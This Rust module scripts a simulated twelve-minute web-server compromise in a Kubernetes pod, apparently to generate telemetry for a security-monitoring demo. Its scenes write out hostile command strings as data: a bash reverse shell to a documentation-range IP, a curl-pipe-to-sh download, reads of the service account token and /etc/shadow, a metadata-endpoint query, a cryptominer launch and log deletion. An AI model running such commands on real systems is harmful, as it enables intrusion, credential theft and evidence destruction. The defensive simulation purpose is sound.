//! The incident: a shop's web server is taken over, and an operator comes to look.
//!
//! It happens in pod `wordpress-6c9f7d8b54-x2vkt` of `wordpress-mysql`, in twelve minutes.
//! The attacker's addresses are of ranges kept for documentation (RFC 5737):
//! `198.51.100.23` uploads, listens for the shell (4444) and serves the download (8080);
//! `203.0.113.66` is the mining pool (3333).

use super::event::{ABSENT, Act, DENIED, Operation, Policy, Process};
use super::net::{self, Remote};
use super::ordinary;
use super::stage::Stage;
use super::{policies, rare};

/// The processes of the incident, as far as they live on between scenes.
pub(super) struct Cast {
    worker: Process,
    shell: Process,
    miner: Process,
}

/// A part of the story: when, in milliseconds since its start, and what.
pub(super) type Scene = (u64, fn(&mut Stage, &mut Cast));

const ATTACKER: &str = "198.51.100.23";
const POOL: &str = "203.0.113.66";
const MINER: &str = "/dev/shm/.kworkerd";
const LOG: &str = "/var/log/apache2/access.log";

/// The story as a corpus hides it.
pub(super) const HIDDEN: [Scene; 13] = [
    (0, upload),
    (41_000, first_command),
    (75_000, reverse_shell),
    (122_000, look_around),
    (168_000, read_token),
    (205_000, ask_metadata),
    (251_000, blocked_tools),
    (312_000, download),
    (355_000, mine),
    (421_000, dig_in),
    (480_000, alarm),
    (552_000, wipe),
    (655_000, operator),
];

/// The story as the demo tells it: the same, and the agents now and then.
pub(super) const TOLD: [Scene; 16] = [
    (15_000, agents),
    (40_000, upload),
    (81_000, first_command),
    (115_000, reverse_shell),
    (162_000, look_around),
    (208_000, read_token),
    (232_000, agents),
    (245_000, ask_metadata),
    (291_000, blocked_tools),
    (352_000, download),
    (395_000, mine),
    (461_000, dig_in),
    (520_000, alarm),
    (592_000, wipe),
    (620_000, privileges),
    (695_000, operator),
];

impl Cast {
    /// The web server's worker; the others are itself until they start.
    pub(super) fn gather(stage: &mut Stage) -> Self {
        let entry = stage.cluster.entry(stage.cluster.victim);
        let root = Process { uid: 0, ..entry };
        let worker = Process {
            uid: 33,
            ..stage.cluster.child(&root, entry.cmd)
        };
        Self {
            worker,
            shell: worker,
            miner: worker,
        }
    }
}

/// Microseconds a hand at the keyboard takes, on average; the cluster is silent meanwhile.
const TYPING: u32 = 300_000;

/// Runs `cmd` after a moment.
fn run(stage: &mut Stage, parent: &Process, cmd: &'static str, libraries: usize) -> Process {
    stage.pass(TYPING);
    ordinary::run(stage, parent, cmd, libraries)
}

/// Tries `cmd` after a moment, and is refused.
fn refuse(stage: &mut Stage, parent: &Process, cmd: &'static str, policy: &'static Policy) {
    stage.pass(TYPING);
    rare::block_exec(stage, parent, cmd, policy);
}

fn agents(stage: &mut Stage, _: &mut Cast) {
    ordinary::agents_plainly(stage);
}

fn privileges(stage: &mut Stage, _: &mut Cast) {
    rare::privilege(stage);
}

fn upload(stage: &mut Stage, cast: &mut Cast) {
    net::accept(
        stage,
        &cast.worker,
        Remote {
            ip: ATTACKER,
            port: 51_844,
            name: "",
        },
    );
    stage.emit(
        &cast.worker,
        Act::write("/var/www/html/wp-content/uploads/thumb.php"),
    );
    stage.emit(
        &cast.worker,
        Act::read("/var/www/html/wp-content/uploads/thumb.php"),
    );
}

fn first_command(stage: &mut Stage, cast: &mut Cast) {
    let shell = run(stage, &cast.worker, "/bin/sh -c id && uname -a", 1);
    run(stage, &shell, "/usr/bin/id", 0);
    run(stage, &shell, "/bin/uname -a", 0);
}

fn reverse_shell(stage: &mut Stage, cast: &mut Cast) {
    let outer = run(
        stage,
        &cast.worker,
        "/bin/sh -c bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'",
        0,
    );
    let inner = run(
        stage,
        &outer,
        "/bin/bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
        0,
    );
    net::succeed(
        stage,
        &inner,
        Remote {
            ip: ATTACKER,
            port: 4444,
            name: "",
        },
    );
    cast.shell = run(stage, &inner, "/bin/bash -i", 1);
}

fn look_around(stage: &mut Stage, cast: &mut Cast) {
    let shell = &cast.shell;
    run(stage, shell, "/usr/bin/whoami", 0);
    let reader = run(stage, shell, "/bin/cat /etc/passwd", 0);
    stage.emit(&reader, Act::read("/etc/passwd"));
    run(stage, shell, "/usr/bin/find / -perm -4000 -type f", 0);
    let ps = stage.cluster.child(shell, "/usr/local/bin/ps aux");
    stage.emit(&ps, Act::exec(ps.cmd).result(ABSENT));
}

fn read_token(stage: &mut Stage, cast: &mut Cast) {
    let reader = run(
        stage,
        &cast.shell,
        "/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        0,
    );
    let act = Act::read("/var/run/secrets/kubernetes.io/serviceaccount/token");
    stage.emit(&reader, act.under(&policies::TOKEN));
    stage.emit(&reader, act);
}

fn ask_metadata(stage: &mut Stage, cast: &mut Cast) {
    let curl = run(
        stage,
        &cast.shell,
        "/usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/",
        0,
    );
    net::succeed(
        stage,
        &curl,
        Remote {
            ip: "169.254.169.254",
            port: 80,
            name: "",
        },
    );
    let tcp = "remoteip=169.254.169.254 port=80 protocol=TCP";
    let act = Act::new(Operation::Network, tcp, "kprobe=tcp_connect domain=AF_INET");
    stage.emit(&curl, act.under(&policies::METADATA));
}

fn blocked_tools(stage: &mut Stage, cast: &mut Cast) {
    let shell = &cast.shell;
    refuse(stage, shell, "/usr/bin/apt update", &policies::PACKAGES);
    refuse(
        stage,
        shell,
        "/usr/bin/apt-get install -y netcat",
        &policies::PACKAGES,
    );
    refuse(
        stage,
        shell,
        "/usr/local/bin/kubectl get secrets -n payments",
        &policies::KUBECTL,
    );
}

fn download(stage: &mut Stage, cast: &mut Cast) {
    let pipe = run(
        stage,
        &cast.shell,
        "/bin/sh -c curl -fsSL http://198.51.100.23:8080/x.sh | sh",
        0,
    );
    let curl = run(
        stage,
        &pipe,
        "/usr/bin/curl -fsSL http://198.51.100.23:8080/x.sh",
        0,
    );
    net::succeed(
        stage,
        &curl,
        Remote {
            ip: ATTACKER,
            port: 8080,
            name: "",
        },
    );
    let sh = run(stage, &pipe, "/bin/sh", 0);
    let curl = run(
        stage,
        &sh,
        "/usr/bin/curl -so /dev/shm/.kworkerd http://198.51.100.23:8080/k",
        0,
    );
    stage.emit(&curl, Act::write(MINER));
    let chown = run(stage, &sh, "/bin/chown 33:33 /dev/shm/.kworkerd", 0);
    let act = Act::new(
        Operation::File,
        MINER,
        "syscall=SYS_FCHOWNAT userid=33 group=33 mode=0",
    );
    stage.emit(&chown, act);
    stage.emit(&chown, act.again());
}

fn mine(stage: &mut Stage, cast: &mut Cast) {
    let cmd = "/dev/shm/.kworkerd -o pool.blockforge.example:3333 -u wallet7 --threads=4";
    cast.miner = stage.cluster.child(&cast.shell, cmd);
    let act = Act::exec(cmd);
    stage.emit(&cast.miner, act.under(&policies::MEMORY));
    stage.emit(&cast.miner, act);
    net::lookup(stage, &cast.miner, "pool.blockforge.example", "A");
    net::succeed(
        stage,
        &cast.miner,
        Remote {
            ip: POOL,
            port: 3333,
            name: "",
        },
    );
}

fn dig_in(stage: &mut Stage, cast: &mut Cast) {
    rare::block_write(
        stage,
        &cast.shell,
        "/etc/cron.d/php-sessions",
        &policies::CRON,
    );
    let su = run(stage, &cast.shell, "/bin/su -c id", 0);
    let act = Act::new(Operation::Syscall, "", "syscall=SYS_SETUID userid=0");
    stage.emit(&su, act.result("Operation not permitted"));
    let unshare = run(stage, &cast.shell, "/bin/mount -t proc proc /tmp/p", 0);
    let data = "syscall=SYS_MOUNT source=proc target=/tmp/p filesystem=proc mountflag=0 data=";
    stage.emit(
        &unshare,
        Act::new(Operation::Syscall, "", data).result("Operation not permitted"),
    );
}

fn alarm(stage: &mut Stage, cast: &mut Cast) {
    let guess = stage.cluster.child(
        &cast.shell,
        "/bin/cat /etc/shadow /etc/shadow- /etc/gshadow",
    );
    stage.emit(&guess, Act::exec(guess.cmd));
    rare::alarm(stage, &guess, "/etc/shadow", &policies::SHADOW);
}

fn wipe(stage: &mut Stage, cast: &mut Cast) {
    let rm = run(
        stage,
        &cast.shell,
        "/bin/rm -f /var/log/apache2/access.log /var/log/apache2/error.log",
        0,
    );
    let unlink = "syscall=SYS_UNLINKAT flags=";
    let act = Act::new(Operation::File, LOG, unlink);
    stage.emit(&rm, act.under(&policies::LOGS));
    stage.emit(&rm, act);
    stage.emit(&rm, act.again());
    let other = Act::new(Operation::File, "/var/log/apache2/error.log", unlink).result(DENIED);
    stage.emit(&rm, other);
    stage.emit(&rm, other.again());
}

/// `kubectl exec -it … -- bash`: all in one session, with a terminal.
fn operator(stage: &mut Stage, cast: &mut Cast) {
    let victim = stage.cluster.victim;
    let bash = stage.cluster.entered(victim, "/bin/bash");
    let bash = Process {
        uid: 0,
        tty: "pts0",
        exec_id: 842_316_907_755_103,
        ..bash
    };
    stage.emit(&bash, Act::exec(bash.cmd));
    stage.emit(&bash, Act::read("/root/.bashrc").result(ABSENT));
    run(stage, &bash, "/bin/ls -la /dev/shm", 0);
    let sum = run(stage, &bash, "/usr/bin/sha256sum /dev/shm/.kworkerd", 0);
    stage.emit(&sum, Act::read(MINER));
    run(stage, &bash, "/usr/bin/pkill -9 -f kworkerd", 0);
    let rm = run(stage, &bash, "/bin/rm /dev/shm/.kworkerd", 0);
    let act = Act::new(Operation::File, MINER, "syscall=SYS_UNLINKAT flags=");
    stage.emit(&rm, act);
    stage.emit(&rm, act.again());
    stage.pass(TYPING);
    stage.emit(&bash, Act::write("/root/.bash_history"));
    cast.shell = bash;
}
